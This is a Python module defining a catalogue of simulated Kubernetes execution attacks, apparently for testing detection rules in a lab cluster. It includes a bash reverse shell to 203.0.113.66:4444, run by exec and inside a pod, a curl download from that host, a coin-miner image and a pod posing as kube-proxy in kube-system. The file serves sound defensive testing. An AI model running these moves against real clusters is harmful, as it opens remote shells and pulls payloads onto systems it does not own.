"""Execution (catalogue D)."""

import time

from cluster import objects
from cluster.actors import Client
from cluster.scenarios.attacks.moves import APPS, Attack, Move, V, get, kubectl, post, python, shell, together
from cluster.script import Decides

EXEC = Decides(("get", "create"), "pods", "exec")
POD_EXEC = "execution/pod_exec"
CREATE_POD = Decides(("create",), "pods")
REVERSE = "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
SPDY = {"KUBECTL_REMOTE_COMMAND_WEBSOCKETS": "false"}


def create_pod(name: str, **spec: object) -> Move:
    """Create a pod in the victim's namespace."""
    return post(f"{V}/pods", objects.pod(name, "victim", **spec))


def hold(*arguments: str) -> Move:
    """Keep a session open for a moment and end it."""

    def act(client: Client) -> None:
        process = client.start_kubectl(*arguments)
        time.sleep(1.5)
        process.terminate()
        process.wait(10)

    return act


def through_kubelet(*paths: str) -> Move:
    """Ask a kubelet through the API server's node proxy."""
    return together(*(get(f"/api/v1/nodes/node-1/proxy{path}") for path in paths))


def image(name: str, reference: str, **more: object) -> Move:
    """Create a pod of any image."""
    return create_pod(name, containers=[{"name": name, "image": reference, **more}])


ATTACKS = (
    Attack("D01", "exec over WebSocket", EXEC, shell("id"), detection=POD_EXEC),
    Attack(
        "D01", "exec over SPDY", EXEC, kubectl("exec", "web-0", "-n", "victim", "--", "id", **SPDY), detection=POD_EXEC
    ),
    Attack(
        "D01", "exec with the Python client", EXEC, python("run_command", "victim", "web-0", "id"), detection=POD_EXEC
    ),
    Attack("D02", "attach", Decides(("get", "create"), "pods", "attach"), hold("attach", "web-0", "-n", "victim")),
    Attack(
        "D03",
        "port-forward",
        Decides(("get", "create"), "pods", "portforward"),
        hold("port-forward", "pod/web-0", "18080:80", "-n", "victim"),
    ),
    Attack("D04", "exec in kube-system", EXEC, shell("id", "system-pod", "kube-system"), detection=POD_EXEC),
    Attack("D05", "reverse shell by exec", EXEC, shell(f"timeout 1 {REVERSE}"), detection=POD_EXEC),
    Attack(
        "D06",
        "pod with a reverse shell",
        CREATE_POD,
        image("updater", "busybox:1.36", command=["sh", "-c", REVERSE]),
        level="Request",
    ),
    Attack("D07", "download by exec", EXEC, shell("curl -m 1 https://203.0.113.66/tool"), detection=POD_EXEC),
    Attack(
        "D08",
        "ephemeral container",
        Decides(("patch", "update"), "pods", "ephemeralcontainers"),
        kubectl("debug", "web-1", "-n", "victim", "--image=busybox:1.36", "--attach=false"),
    ),
    Attack(
        "D09",
        "kubelet proxy",
        Decides(("get",), "nodes", "proxy"),
        through_kubelet("/pods", "/containerLogs/victim/web-0/web"),
    ),
    Attack(
        "D10",
        "kubelet command endpoint by proxy",
        Decides(("get", "create"), "nodes", "proxy"),
        post("/api/v1/nodes/node-1/proxy/run/victim/web-0/web?cmd=id", None),
    ),
    Attack(
        "D11",
        "terminal in a new pod",
        CREATE_POD,
        kubectl(
            "run",
            "term",
            "-n",
            "victim",
            "--image=busybox:1.36",
            "--stdin",
            "--tty",
            "--restart=Never",
            "--attach=false",
        ),
        level="Request",
    ),
    Attack("D12", "debug image", CREATE_POD, image("netshoot", "nicolaka/netshoot:latest"), level="Request"),
    Attack(
        "D15",
        "pod with a trusted name",
        Decides(("create",), "pods"),
        post("/api/v1/namespaces/kube-system/pods", objects.pod("kube-proxy-x7k2p", "kube-system")),
    ),
    Attack("D16", "an attack tool's name", CREATE_POD, image("peirates", "alcide/peirates:latest"), level="Request"),
    Attack("D17", "coin miner", CREATE_POD, image("xmrig", "miner.example.net/xmrig:6.21"), level="Request"),
    Attack(
        "D18",
        "unknown registry",
        Decides(("create",), "deployments"),
        post(
            f"{APPS}/deployments",
            objects.deployment("unknown", "victim", containers=[{"name": "a", "image": "203.0.113.66:5000/a:latest"}]),
        ),
        level="Request",
    ),
)
